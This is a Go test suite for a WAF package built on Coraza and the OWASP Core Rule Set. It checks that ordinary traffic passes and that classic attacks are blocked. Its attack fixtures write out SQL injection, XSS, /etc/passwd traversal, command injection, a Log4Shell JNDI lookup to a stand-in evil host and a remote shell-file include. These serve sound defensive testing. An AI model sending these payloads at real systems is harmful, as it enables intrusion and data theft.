package waf

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"slices"
	"strings"
	"testing"

	txhttp "github.com/corazawaf/coraza/v3/http"
	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"

	"github.com/api-gateway/api-gateway/model"
)

var quiet = slog.New(slog.DiscardHandler)

// req is a test request; h are extra headers.
type req struct {
	method, uri, body string
	h                 [][2]string
}

func (r req) raw() rawRequest {
	method := r.method
	if method == "" {
		method = "GET"
	}
	headers := [][2]string{
		{"Host", "api.example.com"},
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
		{"Accept", "application/json, text/html;q=0.9, */*;q=0.8"},
		{"Accept-Language", "de-DE,de;q=0.9,en;q=0.8"},
	}
	headers = append(headers, r.h...)
	if r.body != "" {
		headers = append(headers, [2]string{"Content-Length", fmt.Sprint(len(r.body))})
	}
	return rawRequest{method: method, uri: r.uri, version: "HTTP/1.1", headers: headers, body: []byte(r.body),
		srcIP: "198.51.100.20", srcPort: 40404, dstIP: "10.0.0.5", dstPort: 8080}
}

func (r req) check() *authv3.CheckRequest { return checkRequest(r.raw(), "test-req") }

func jsonReq(uri, body string) req {
	return req{method: "POST", uri: uri, body: body, h: [][2]string{{"Content-Type", "application/json"}}}
}

func formReq(uri string, v url.Values) req {
	return req{method: "POST", uri: uri, body: v.Encode(), h: [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}}}
}

// benignCorpus is ordinary API and browser traffic: JSON APIs, form posts, searches with
// quotes and apostrophes, UTF-8 names.
func benignCorpus() map[string]req {
	return map[string]req{
		"get-list":          {uri: "/api/v1/users?page=2&per_page=50&sort=-created_at"},
		"get-item":          {uri: "/api/v1/orders/7f3c9a2e-1b4d-4c8e-9f00-2a6b1c3d4e5f"},
		"search-apostrophe": {uri: "/search?q=" + url.QueryEscape("O'Reilly books")},
		"search-quotes":     {uri: "/search?q=" + url.QueryEscape(`"machine learning" tutorial`)},
		"search-dont":       {uri: "/search?q=" + url.QueryEscape("don't stop me now")},
		"search-utf8":       {uri: "/search?q=" + url.QueryEscape("Müller Straße café")},
		"search-cjk":        {uri: "/search?q=" + url.QueryEscape("東京 ラーメン")},
		"search-plus":       {uri: "/search?q=c%2B%2B+programming&lang=en"},
		"filter-dates":      {uri: "/api/v1/reports?from=2026-01-01&to=2026-03-31&tz=Europe%2FBerlin"},
		"get-with-cookie":   {uri: "/dashboard", h: [][2]string{{"Cookie", "session=abc123def456; theme=dark; lang=de"}}},
		"json-user":         jsonReq("/api/v1/users", `{"name":"José Álvarez","email":"jose@example.com","bio":"I'm a developer from São Paulo. I love \"clean code\".","age":34}`),
		"json-order":        jsonReq("/api/v1/orders", `{"items":[{"sku":"A-100","qty":2},{"sku":"B-200","qty":1}],"note":"Please ring twice, it's the blue door","coupon":null}`),
		"json-nested":       jsonReq("/api/v1/settings", `{"notifications":{"email":true,"sms":false},"locale":"fr-FR","display_name":"Zoë O'Connor"}`),
		"json-array":        jsonReq("/api/v1/batch", `[{"op":"add","path":"/tags/0","value":"urgent"},{"op":"replace","path":"/title","value":"Q3 plan"}]`),
		"json-unicode":      jsonReq("/api/v1/messages", `{"to":"Łukasz","text":"Cześć! Jak się masz? 😀","thread":42}`),
		"json-markdown":     jsonReq("/api/v1/notes", `{"title":"Meeting notes","body":"- Discussed the roadmap\n- Bob's proposal: ship v2 in May\n- Next steps: review & sign-off"}`),
		"form-login":        formReq("/login", url.Values{"username": {"alice"}, "password": {"correct horse battery staple"}, "remember": {"on"}}),
		"form-contact": formReq("/contact", url.Values{"name": {"Seán O'Brien"}, "email": {"sean@example.ie"},
			"message": {"Hi there, I'd like to know more about your pricing. Thanks!"}}),
		"form-address": formReq("/checkout/address", url.Values{"street": {"Königsallee 12"}, "city": {"Düsseldorf"}, "zip": {"40212"}, "country": {"DE"}}),
		"form-comment": formReq("/blog/42/comments", url.Values{"author": {"Renée"}, "comment": {`Great post! I especially liked the part about "simple" designs.`}}),
		"put-json":     {method: "PUT", uri: "/api/v1/users/42", body: `{"name":"Anna-Lena","role":"editor"}`, h: [][2]string{{"Content-Type", "application/json"}}},
		"delete":       {method: "DELETE", uri: "/api/v1/users/42"},
		"patch-json":   {method: "PATCH", uri: "/api/v1/users/42", body: `{"active":false}`, h: [][2]string{{"Content-Type", "application/merge-patch+json"}}},
	}
}

// attacks are classic attacks the CRS blocks at paranoia 1, with their category.
func attacks() map[string]struct {
	r        req
	category string
} {
	type a = struct {
		r        req
		category string
	}
	return map[string]a{
		"sqli-union":  {req{uri: "/items?id=" + url.QueryEscape("1 UNION SELECT username, password FROM users--")}, CategorySQLi},
		"sqli-or":     {req{uri: "/login?user=" + url.QueryEscape("admin' OR '1'='1")}, CategorySQLi},
		"xss-script":  {req{uri: "/search?q=" + url.QueryEscape("<script>alert(document.cookie)</script>")}, CategoryXSS},
		"lfi-passwd":  {req{uri: "/download?file=" + url.QueryEscape("../../../../etc/passwd")}, CategoryLFI},
		"rce-cmd":     {formReq("/ping", url.Values{"host": {"127.0.0.1; uname -a; id"}}), CategoryRCE},
		"php-inject":  {req{uri: "/index.php?page=" + url.QueryEscape("php://filter/convert.base64-encode/resource=index")}, CategoryPHP},
		"java-log4j":  {req{uri: "/api", h: [][2]string{{"X-Api-Version", "${jndi:ldap://evil.example.com/a}"}}}, CategoryJava},
		"json-sqli":   {jsonReq("/api/v1/search", `{"q":"x' UNION SELECT password FROM users--"}`), CategorySQLi},
		"rfi":         {req{uri: "/page?include=" + url.QueryEscape("http://203.0.113.9/shell.txt?")}, CategoryRFI},
		"scanner-ua":  {req{uri: "/", h: [][2]string{{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}}}, CategoryScanner},
		"session-fix": {req{uri: "/login?sessionid=" + url.QueryEscape(`<script>document.cookie="sessionid=1234;"</script>`)}, CategoryXSS},
	}
}

func mustGet(t *testing.T, reg *Registry, s *model.WAFSettings) *WAF {
	t.Helper()
	w, err := reg.Get(s)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func TestBenignCorpusAtParanoia1(t *testing.T) {
	w := mustGet(t, NewRegistry(RegistryOptions{Logger: quiet}), &model.WAFSettings{})
	for name, r := range benignCorpus() {
		v := w.Inspect(context.Background(), r.check())
		if !v.Allowed || v.Detected {
			t.Errorf("%s: blocked: %+v", name, v)
		}
	}
}

func TestAttacksBlockedWithCategory(t *testing.T) {
	w := mustGet(t, NewRegistry(RegistryOptions{Logger: quiet}), &model.WAFSettings{})
	for name, a := range attacks() {
		v := w.Inspect(context.Background(), a.r.check())
		if v.Allowed || !v.Detected || v.Status != 403 || v.RuleID != 949110 {
			t.Errorf("%s: not blocked by the anomaly evaluation: %+v", name, v)
			continue
		}
		if v.AnomalyScore < 5 {
			t.Errorf("%s: anomaly score %d", name, v.AnomalyScore)
		}
		if v.Category != a.category {
			t.Errorf("%s: category %q, want %q (rules %v)", name, v.Category, a.category, v.RuleIDs)
		}
	}
}

// TestSameVerdictsAsCorazaMiddleware runs the benign corpus and the attacks through
// Coraza's own net/http middleware (engine On, paranoia 1) and through Inspect.
func TestSameVerdictsAsCorazaMiddleware(t *testing.T) {
	w := mustGet(t, NewRegistry(RegistryOptions{Logger: quiet}), &model.WAFSettings{})
	h := txhttp.WrapHandler(middlewareWAF(t), http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rw.WriteHeader(http.StatusOK)
	}))
	all := map[string]req{}
	for n, r := range benignCorpus() {
		all[n] = r
	}
	for n, a := range attacks() {
		all[n] = a.r
	}
	for name, r := range all {
		raw := r.raw()
		hr := httptest.NewRequest(raw.method, raw.uri, strings.NewReader(string(raw.body)))
		for _, kv := range raw.headers {
			if kv[0] == "Host" {
				hr.Host = kv[1]
			} else {
				hr.Header.Add(kv[0], kv[1])
			}
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, hr)
		v := w.Inspect(context.Background(), r.check())
		if got, want := !v.Allowed, rec.Code == http.StatusForbidden; got != want {
			t.Errorf("%s: Inspect blocked=%v, Coraza middleware status %d", name, got, rec.Code)
		}
	}
}

func TestDetectModeNeverBlocks(t *testing.T) {
	reg := NewRegistry(RegistryOptions{Logger: quiet})
	w := mustGet(t, reg, &model.WAFSettings{Mode: model.WAFModeDetect, MaxHeaderSize: 300, MaxRequestBodySize: 100})
	for name, a := range attacks() {
		v := w.Inspect(context.Background(), a.r.check())
		if !v.Allowed {
			t.Errorf("%s: detect mode blocked: %+v", name, v)
		}
		if !v.Detected || v.Category == "" {
			t.Errorf("%s: not detected: %+v", name, v)
		}
	}
	big := req{uri: "/", h: [][2]string{{"X-Big", strings.Repeat("a", 400)}}}
	if v := w.Inspect(context.Background(), big.check()); !v.Allowed || !v.Detected || v.Status != StatusHeadersTooLarge {
		t.Errorf("oversized headers in detect mode: %+v", v)
	}
	body := jsonReq("/", `{"a":"`+strings.Repeat("b", 200)+`"}`)
	if v := w.Inspect(context.Background(), body.check()); !v.Allowed || !v.Detected || v.Status != StatusBodyTooLarge {
		t.Errorf("oversized body in detect mode: %+v", v)
	}
	// The same settings in block mode deny.
	wb := mustGet(t, reg, &model.WAFSettings{MaxHeaderSize: 300, MaxRequestBodySize: 100})
	if v := wb.Inspect(context.Background(), big.check()); v.Allowed || v.Status != StatusHeadersTooLarge {
		t.Errorf("oversized headers in block mode: %+v", v)
	}
	if v := wb.Inspect(context.Background(), body.check()); v.Allowed || v.Status != StatusBodyTooLarge {
		t.Errorf("oversized body in block mode: %+v", v)
	}
}

func TestExclusionsAndThreshold(t *testing.T) {
	reg := NewRegistry(RegistryOptions{Logger: quiet})
	// A numeric Host is a warning (920350, 3 points): under the default threshold of 5.
	ipHost := req{uri: "/", h: nil}
	ipHostReq := ipHost.raw()
	ipHostReq.headers[0] = [2]string{"Host", "192.0.2.10"}
	cr := checkRequest(ipHostReq, "t")

	if v := mustGet(t, reg, &model.WAFSettings{}).Inspect(context.Background(), cr); !v.Allowed || !slices.Contains(v.RuleIDs, 920350) || v.AnomalyScore != 3 {
		t.Fatalf("default threshold: %+v", v)
	}
	strict := mustGet(t, reg, &model.WAFSettings{AnomalyThreshold: 3})
	if v := strict.Inspect(context.Background(), cr); v.Allowed || v.Category != CategoryProtocol {
		t.Fatalf("threshold 3 should block: %+v", v)
	}
	excluded := mustGet(t, reg, &model.WAFSettings{AnomalyThreshold: 3, ExcludeRules: []int{920350}})
	if v := excluded.Inspect(context.Background(), cr); !v.Allowed || slices.Contains(v.RuleIDs, 920350) {
		t.Fatalf("excluded rule still matched: %+v", v)
	}
	// Excluding the rules an attack trips lets it through.
	xss := req{uri: "/search?q=" + url.QueryEscape("<script>alert(1)</script>")}
	v := mustGet(t, reg, &model.WAFSettings{}).Inspect(context.Background(), xss.check())
	if v.Allowed {
		t.Fatalf("xss allowed: %+v", v)
	}
	var ids []int
	for _, id := range v.RuleIDs {
		if !isEvaluationRule(id) {
			ids = append(ids, id)
		}
	}
	if v := mustGet(t, reg, &model.WAFSettings{ExcludeRules: ids}).Inspect(context.Background(), xss.check()); !v.Allowed {
		t.Fatalf("xss with rules %v excluded still blocked: %+v", ids, v)
	}
}

func TestCustomRules(t *testing.T) {
	reg := NewRegistry(RegistryOptions{Logger: quiet})
	w := mustGet(t, reg, &model.WAFSettings{
		CustomRules: `# deny a magic argument
SecRule ARGS:debug "@streq true" \
    "id:10001,phase:1,deny,status:418,log,msg:'debug flag'"`,
		CustomRulesAfterCRS: `SecRuleUpdateTargetById 942100 "!ARGS:sql"`,
	})
	if v := w.Inspect(context.Background(), req{uri: "/x?debug=true"}.check()); v.Allowed || v.Status != 418 || v.RuleID != 10001 || v.Category != CategoryCustom {
		t.Errorf("custom deny: %+v", v)
	}
	if v := w.Inspect(context.Background(), req{uri: "/x?debug=false"}.check()); !v.Allowed {
		t.Errorf("custom rule over-matched: %+v", v)
	}
	sqli := "1' OR '1'='1"
	if v := w.Inspect(context.Background(), req{uri: "/x?sql=" + url.QueryEscape(sqli)}.check()); slices.Contains(v.RuleIDs, 942100) {
		t.Errorf("942100 still inspects ARGS:sql: %+v", v)
	}
	if v := w.Inspect(context.Background(), req{uri: "/x?q=" + url.QueryEscape(sqli)}.check()); !slices.Contains(v.RuleIDs, 942100) {
		t.Errorf("942100 no longer inspects other args: %+v", v)
	}
}

func TestValidateSettings(t *testing.T) {
	if errs := ValidateSettings(&model.WAFSettings{CustomRules: `SecRule ARGS "@rx a" "id:10002,phase:1,pass,nolog"`}); len(errs) != 0 {
		t.Fatalf("valid rules rejected: %v", errs)
	}
	errs := ValidateSettings(&model.WAFSettings{CustomRules: `# comment
SecRule ARGS "@rx a" "id:10003,phase:1,pass,nolog"

SecRule ARGS "@nosuchop a" \
    "id:10004,phase:1,deny"`})
	if len(errs) != 1 || errs[0].Field != "custom_rules" || !strings.Contains(errs[0].Problem, "line 4") {
		t.Fatalf("want custom_rules line 4 error, got %v", errs)
	}
	errs = ValidateSettings(&model.WAFSettings{CustomRulesAfterCRS: "SecRuleUpdateTargetById 942100 \"!ARGS:a\"\nSecBogusDirective On"})
	if len(errs) != 1 || errs[0].Field != "custom_rules_after_crs" || !strings.Contains(errs[0].Problem, "line 2") {
		t.Fatalf("want custom_rules_after_crs line 2 error, got %v", errs)
	}
	errs = ValidateSettings(&model.WAFSettings{ParanoiaLevel: 7, Mode: "audit"})
	if len(errs) != 2 {
		t.Fatalf("want 2 field errors, got %v", errs)
	}
	if errs := ValidateSettings(nil); errs != nil {
		t.Fatalf("nil settings: %v", errs)
	}
}

func TestRegistrySharesOneWAFPerRuleset(t *testing.T) {
	reg := NewRegistry(RegistryOptions{Logger: quiet})
	first, err := reg.ForRoute("route-0", &model.WAFSettings{ParanoiaLevel: 2, BlockMaliciousIPs: true})
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < 100; i++ {
		// Equal settings written differently (order of exclusions, explicit defaults).
		rw, err := reg.ForRoute(fmt.Sprintf("route-%d", i), &model.WAFSettings{ParanoiaLevel: 2, AnomalyThreshold: 5, Mode: "block"})
		if err != nil {
			t.Fatal(err)
		}
		if rw.WAF != first.WAF {
			t.Fatalf("route %d got its own WAF", i)
		}
	}
	if reg.Len() != 1 {
		t.Fatalf("registry holds %d WAFs", reg.Len())
	}
	other := mustGet(t, reg, &model.WAFSettings{ParanoiaLevel: 3})
	if other == first.WAF || reg.Len() != 2 {
		t.Fatal("different settings share a WAF")
	}
	if w, err := reg.Get(&model.WAFSettings{Enabled: new(bool)}); w != nil || err != nil {
		t.Fatalf("disabled WAF: %v %v", w, err)
	}
	if dropped := reg.RetainRoutes(first, nil); dropped != 1 || reg.Len() != 1 {
		t.Fatalf("retain dropped %d, holds %d", dropped, reg.Len())
	}
	if again := mustGet(t, reg, &model.WAFSettings{ParanoiaLevel: 2}); again != first.WAF {
		t.Fatal("retained WAF was recompiled")
	}
	// The retained WAF still works after the other was closed.
	if v := first.WAF.Inspect(context.Background(), attacks()["sqli-union"].r.check()); v.Allowed {
		t.Fatal("retained WAF does not block")
	}
}

// TestWAFMemory reports the live heap of compiled CRS WAFs: the first one in the process
// (which also fills the shared compiled-regex caches) and each further distinct ruleset.
func TestWAFMemory(t *testing.T) {
	heap := func() int64 {
		runtime.GC()
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return int64(m.HeapAlloc)
	}
	const n = 4
	reg := NewRegistry(RegistryOptions{Logger: quiet})
	before := heap()
	keep := []*WAF{mustGet(t, reg, &model.WAFSettings{AnomalyThreshold: 100})}
	mid := heap()
	for i := 1; i <= n; i++ {
		keep = append(keep, mustGet(t, reg, &model.WAFSettings{AnomalyThreshold: 100 + i}))
	}
	after := heap()
	per := float64(after-mid) / n / (1 << 20)
	t.Logf("compiled CRS WAF (%d rules): first in this process %.1f MiB live heap (with the shared regexp caches if still cold), each further ruleset %.1f MiB",
		keep[0].RulesCount(), float64(mid-before)/(1<<20), per)
	if per > 75 {
		t.Errorf("one WAF holds %.1f MiB", per)
	}
	runtime.KeepAlive(keep)
}

func TestAdapterReadsEnvoyRequest(t *testing.T) {
	w := mustGet(t, NewRegistry(RegistryOptions{Logger: quiet}), &model.WAFSettings{AnomalyThreshold: 3})
	// header_map (encode_raw_headers) instead of headers; body as a string.
	cr := &authv3.CheckRequest{Attributes: &authv3.AttributeContext{
		Source: &authv3.AttributeContext_Peer{Address: socketAddr("198.51.100.1", 5555)},
		Request: &authv3.AttributeContext_Request{Http: &authv3.AttributeContext_HttpRequest{
			Method: "POST", Path: "/submit", Protocol: "HTTP/2",
			HeaderMap: &corev3.HeaderMap{Headers: []*corev3.HeaderValue{
				{Key: ":authority", RawValue: []byte("192.0.2.1")},
				{Key: ":method", RawValue: []byte("POST")},
				{Key: ":path", RawValue: []byte("/submit")},
				{Key: "content-type", RawValue: []byte("application/x-www-form-urlencoded")},
				{Key: "user-agent", RawValue: []byte("curl/8.5.0")},
				{Key: "accept", RawValue: []byte("*/*")},
			}},
			Body: "comment=" + url.QueryEscape("<script>alert(1)</script>"),
		}},
	}}
	v := w.Inspect(context.Background(), cr)
	if v.Allowed || !slices.Contains(v.RuleIDs, 920350) || v.Category != CategoryXSS {
		t.Fatalf("header_map request: %+v", v)
	}
	if v := w.Inspect(context.Background(), &authv3.CheckRequest{}); v.Allowed || v.Err == nil {
		t.Fatalf("request without HTTP attributes: %+v", v)
	}
}
